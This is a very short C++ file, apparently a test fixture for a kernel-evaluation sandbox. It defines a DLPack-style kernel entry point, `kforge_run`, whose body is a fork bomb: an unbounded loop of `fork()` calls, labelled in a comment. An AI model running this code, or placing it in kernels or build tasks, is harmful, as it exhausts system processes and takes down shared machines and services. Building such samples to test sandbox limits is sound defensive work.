#include <dlpack/dlpack.h>
#include <cstdint>
#include <unistd.h>

// Forks without bound.
extern "C" int kforge_run(const DLTensor*, int, DLTensor*, int, void*) {
  for (;;) fork();
  return 0;
}
